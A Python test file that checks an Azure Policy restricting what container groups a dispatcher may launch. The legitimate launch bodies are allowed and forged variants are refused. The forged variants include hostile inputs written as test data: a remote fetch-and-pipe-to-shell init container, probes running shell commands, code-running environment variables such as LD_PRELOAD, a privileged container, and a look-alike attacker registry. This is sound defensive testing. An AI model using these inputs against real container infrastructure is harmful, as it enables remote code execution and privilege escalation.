"""The Azure Policy that bounds what the dispatcher's launch role can create (stacks/azure/launch_policy.py):
its rule, as the stack writes it, evaluated against the request the dispatcher really sends
(dispatcher/machines/aci/groups.py builds it from the stack's own settings) and against forged ones."""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import pytest

from botchannel.contract import CHANNEL_TOKEN_VARIABLE, MACHINE_ID_VARIABLE
from dispatcher.machines.aci.groups import TAG_CLAIMED, TAG_DIGEST, TAG_SESSION, group_body
from dispatcher.machines.aci.provider import BOT_CHANNEL_URL
from dispatcher.machines.aci.settings import AciSettings
from dispatcher.machines.base import LaunchSpec, MachinesError
from dispatcher.machines.bot_environment import TRANSPORT, bot_environment
from stacks.azure.launch_policy import ALIASES, GROUPS, UNVERIFIED
from stacks.tools.mocks import Run, unwrap
from tests.infra.azure.test_stack import env
from tests.infra.conftest import StackRunner
from tests.support.azure_policy import PATHS, denies

DEFINITION = "azure-native:authorization:PolicyDefinition"
ASSIGNMENT = "azure-native:authorization:PolicyAssignment"
FOREIGN_SUBNET = ("/subscriptions/0b1f6a2e-3c4d-4e5f-8a9b-0c1d2e3f4a5b/resourceGroups/elsewhere/providers/"
                  "Microsoft.Network/virtualNetworks/other/subnets/open")
DIGEST = "sha256:" + "ab" * 32


def rule(run: Run) -> dict[str, Any]:
    return unwrap(run.one(DEFINITION).inputs)["policyRule"]


def settings(run: Run) -> AciSettings:
    return AciSettings.from_env({name: e["value"] for name, e in env(run).items() if "value" in e})


def launched(run: Run, image: str | None = None, channel_token: str | None = None) -> dict[str, Any]:
    """The body the aci provider PUTs for a session, built by its own code from the stack's settings:
    every variable a cold launch can carry (the bots' secrets, the channel, the session's values)."""
    aci = settings(run)
    spec = LaunchSpec(session_id="s-1", body_digest="d", body={"a": 1}, max_session_seconds=600,
                      room_url="https://example.daily.co/r",
                      bot_token="t", ice_config={"iceServers": []}, transport="websocket",
                      channel_token=channel_token)
    env = {**dict.fromkeys(aci.bot_secrets, "secret"), BOT_CHANNEL_URL: "wss://d/channel",
           "BOT_IMAGE_DIGEST": image or aci.bot_image, **bot_environment(spec)}
    return group_body(aci, env, {TAG_SESSION: "s-1"}, image=image)


def idle(run: Run) -> dict[str, Any]:
    """A reserve group's body, with the values aci/reserve.py launch_idle sends."""
    aci = settings(run)
    env = {**dict.fromkeys(aci.bot_secrets, "secret"), BOT_CHANNEL_URL: "wss://d/channel",
           "BOT_IMAGE_DIGEST": aci.bot_image, MACHINE_ID_VARIABLE: "b-1", TRANSPORT: "daily",
           CHANNEL_TOKEN_VARIABLE: "c"}
    return group_body(aci, env, {"voicefleet-idle": "b-1"})


def test_the_policy_is_a_deny_assigned_on_the_stacks_resource_group_before_the_dispatcher_exists(full: Run) -> None:
    definition, assignment = unwrap(full.one(DEFINITION).inputs), unwrap(full.one(ASSIGNMENT).inputs)
    assert definition["policyRule"]["then"] == {"effect": "Deny"} and definition["mode"] == "All"
    assert assignment["scope"] == full.one("azure-native:resources:ResourceGroup").outputs["id"]
    assert assignment["policyDefinitionId"] == full.one(DEFINITION).outputs["id"]
    assert assignment["enforcementMode"] == "Default"
    # No launch before the policy is in place: the app (and so every replica) waits for the assignment.
    assert full.one(ASSIGNMENT).urn in full.one("azure-native:app:ContainerApp").dependencies


def test_the_rule_pins_the_releases_bot_images_by_digest_and_the_bots_subnet(full: Run) -> None:
    written = repr(rule(full))
    aci = settings(full)
    assert aci.webrtc_image is not None and "@sha256:" in aci.bot_image
    (pinned,) = [c for c in rule(full)["if"]["allOf"][1]["anyOf"][0]["count"]["where"]["anyOf"][0]["not"]["anyOf"]]
    assert pinned == {"field": "Microsoft.ContainerInstance/containerGroups/containers[*].image",
                      "in": sorted([aci.bot_image, aci.webrtc_image])}
    assert "/dispatcher@" not in written  # the dispatcher's image is not a bot
    assert f"'{aci.subnet_id}'" in written and aci.subnet_id.endswith("/subnets/bots")
    # Every alias it names is one the evaluator maps (and so one the tests below exercise).
    assert set(ALIASES) <= set(PATHS)


def test_every_unverified_alias_is_in_the_docs_list_of_what_a_subscription_must_verify() -> None:
    """Every alias the rule names is in Azure's list today (ALIASES); one added unverified must be
    listed in the docs with its recovery."""
    verify = Path("docs/pulumi.md").read_text().split("What only a real subscription can verify", 1)[1]
    assert [alias for alias in UNVERIFIED if f"`{alias}`" not in verify] == []


def test_what_the_dispatcher_launches_is_allowed(full: Run) -> None:
    aci = settings(full)
    assert aci.webrtc_image is not None
    assert aci.bot_secrets and aci.bot_settings  # the deployment's own variables are in the body too
    for image in (None, aci.webrtc_image):
        assert not denies(rule(full), GROUPS, launched(full, image))
        assert not denies(rule(full), GROUPS, launched(full, image, channel_token="c"))
    assert not denies(rule(full), GROUPS, idle(full))


def test_the_reserves_claim_a_tags_only_patch_passes_as_arm_may_evaluate_its_body(full: Run) -> None:
    """aci/reserve.py adopt() PATCHes `{"tags": …}`: whether ARM evaluates that body or the group it
    makes, the claim is not refused (the group's own checks are guarded by its containers)."""
    claim = {"tags": {TAG_SESSION: "s-1", TAG_DIGEST: "d", TAG_CLAIMED: "1"}}
    assert not denies(rule(full), GROUPS, claim)
    assert not denies(rule(full), GROUPS, {**idle(full), **claim})


def test_a_group_at_the_default_priority_passes(full: Run) -> None:
    """ACI's `priority` is Regular unless Spot is asked for: a request, or the group ARM evaluates for
    the reserve's PATCH, that names the default is not refused (only Spot, evictable, is)."""
    regular = copy.deepcopy(launched(full))
    regular["properties"]["priority"] = "Regular"
    assert not denies(rule(full), GROUPS, regular)
    claim = {"tags": {TAG_SESSION: "s-1", TAG_DIGEST: "d", TAG_CLAIMED: "1"}}
    assert not denies(rule(full), GROUPS, {**regular, **claim})


def forged(run: Run) -> dict[str, dict[str, Any]]:
    aci = settings(run)
    body = launched(run)
    variants: dict[str, dict[str, Any]] = {}

    def variant(name: str) -> dict[str, Any]:
        variants[name] = copy.deepcopy(body)
        return variants[name]

    def container(found: dict[str, Any]) -> dict[str, Any]:
        return found["properties"]["containers"][0]["properties"]

    container(variant("foreign image"))["image"] = f"docker.io/library/alpine@{DIGEST}"
    container(variant("a tag, not a digest"))["image"] = f"{aci.registry_server}/bot:latest"
    container(variant("the registry's dispatcher image"))["image"] = f"{aci.registry_server}/dispatcher@{DIGEST}"
    container(variant("a look-alike registry"))["image"] = f"{aci.registry_server}.evil.example/bot@{DIGEST}"
    container(variant("a command"))["command"] = ["python", "-c", "print(1)"]
    sidecar = variant("a second, foreign container")
    sidecar["properties"]["containers"].append({"name": "x", "properties": {
        "image": f"docker.io/library/alpine@{DIGEST}", "resources": {"requests": {"cpu": 1, "memoryInGB": 1}}}})
    variant("a public address")["properties"]["ipAddress"] = {"type": "Public", "ports": [{"port": 80}]}
    variant("a volume")["properties"]["volumes"] = [{"name": "v", "gitRepo": {"repository": "https://x/y"}}]
    variant("its own DNS servers")["properties"]["dnsConfig"] = {"nameServers": ["198.51.100.53"]}
    variant("logs to a workspace")["properties"]["diagnostics"] = {
        "logAnalytics": {"workspaceId": "w", "workspaceKey": "k"}}
    del variant("no subnet")["properties"]["subnetIds"]
    variant("another subnet")["properties"]["subnetIds"] = [{"id": FOREIGN_SUBNET}]
    variant("a second subnet")["properties"]["subnetIds"].append({"id": FOREIGN_SUBNET})
    variant("an init container")["properties"]["initContainers"] = [{"name": "x", "properties": {
        "image": f"docker.io/library/alpine@{DIGEST}", "command": ["sh", "-c", "wget -qO- https://x/y | sh"]}}]
    for probe in ("livenessProbe", "readinessProbe"):
        container(variant(f"a {probe} running a command"))[probe] = {
            "exec": {"command": ["python", "-c", "import os; os.system('id')"]}, "periodSeconds": 10}
    container(variant("a privileged container"))["securityContext"] = {
        "privileged": True, "capabilities": {"add": ["SYS_ADMIN", "NET_ADMIN"]}}
    container(variant("a variable that runs code in Python"))["environmentVariables"] += [
        {"name": "PYTHONWARNINGS", "value": "ignore::antigravity.x::0"}, {"name": "BROWSER", "value": "sh -c id"}]
    container(variant("a variable, as a secure value"))["environmentVariables"].append(
        {"name": "LD_PRELOAD", "secureValue": "/tmp/x.so"})
    variant("the confidential sku")["properties"]["sku"] = "Confidential"
    del variant("no sku")["properties"]["sku"]
    variant("a confidential compute policy")["properties"]["confidentialComputeProperties"] = {"ccePolicy": "e30="}
    profile = variant("containers from a container group profile")
    del profile["properties"]["containers"]
    profile["properties"]["containerGroupProfile"] = {
        "id": "/subscriptions/x/resourceGroups/y/providers/Microsoft.ContainerInstance/containerGroupProfiles/p",
        "revision": 1}
    variant("a standby pool's profile")["properties"]["standbyPoolProfile"] = {"id": "/subscriptions/x/pool"}
    variant("an extension")["properties"]["extensions"] = [{"name": "e", "properties": {"extensionType": "kube-proxy"}}]
    container(variant("files from a config map"))["configMap"] = {"keyValuePairs": {"sitecustomize.py": "import os"}}
    variant("Spot, evictable mid-call")["properties"]["priority"] = "Spot"
    reference = {"name": "k", "identity": "/subscriptions/x/id", "secretReferenceUri": "https://v.vault.azure.net/s/k"}
    variant("a group's secret references")["properties"]["secretReferences"] = [reference]
    container(variant("a variable read from a secret reference"))["environmentVariables"].append(
        {"name": sorted(aci.bot_secrets)[0], "secureValueReference": "k"})  # a name the policy admits
    variant("a registry password from a secret reference")["properties"]["imageRegistryCredentials"] = [
        {"server": aci.registry_server, "username": "u", "passwordReference": "k"}]
    variant("identity ACLs")["properties"]["identityAcls"] = {
        "defaultAccess": "All", "acls": [{"access": "All", "identity": "/subscriptions/x/id"}]}
    variant("a system-assigned identity too")["identity"]["type"] = "SystemAssigned, UserAssigned"
    variant("only a system-assigned identity")["identity"] = {"type": "SystemAssigned"}
    del variant("no identity")["identity"]
    return variants


def test_forged_groups_are_refused(full: Run) -> None:
    allowed = [name for name, body in forged(full).items() if not denies(rule(full), GROUPS, body)]
    assert not allowed, f"the policy lets through: {allowed}"


def test_another_digest_of_the_bot_repository_is_refused(full: Run) -> None:
    """Only the releases' images run: not a build the stack never listed, nor one a release dropped
    (the registry keeps those until someone purges them)."""
    other = copy.deepcopy(launched(full))
    image = settings(full).bot_image.rsplit("@", 1)[0] + f"@{DIGEST}"
    other["properties"]["containers"][0]["properties"]["image"] = image
    assert denies(rule(full), GROUPS, other)


def test_without_turn_the_webrtc_repository_is_not_admitted(stack: StackRunner) -> None:
    run = stack("azure")
    webrtc = copy.deepcopy(launched(run))
    image = f"{settings(run).registry_server}/bot-webrtc@{DIGEST}"
    webrtc["properties"]["containers"][0]["properties"]["image"] = image
    assert not denies(rule(run), GROUPS, launched(run)) and denies(rule(run), GROUPS, webrtc)


@pytest.mark.parametrize("operator", ["containsKey", "contains"])
def test_the_evaluator_refuses_what_it_cannot_evaluate(full: Run, operator: str) -> None:
    """A rule outside the evaluator's subset fails the tests instead of reading as "allowed"."""
    changed = copy.deepcopy(rule(full))
    changed["if"]["allOf"][0] = {"field": "type", operator: [GROUPS]}
    with pytest.raises(ValueError, match="not in this evaluator's subset"):
        denies(changed, GROUPS, launched(full))


def test_the_provider_refuses_to_send_a_variable_the_policy_would_refuse(full: Run) -> None:
    """LAUNCH_VARIABLES is both sides' list: a variable added to the provider's launches but not to
    it fails here, in the provider, before Azure would refuse every launch with it."""
    with pytest.raises(MachinesError, match="PYTHONWARNINGS"):
        group_body(settings(full), {"PYTHONWARNINGS": "ignore"}, {TAG_SESSION: "s-1"})
    assert denies(rule(full), GROUPS, group_body(settings(full), {"EXTRA_API_KEY": "k"}, {TAG_SESSION: "s-1"},
                                                 env_from=["EXTRA_API_KEY"]))  # the stack sets no ACI_BOT_ENV_FROM
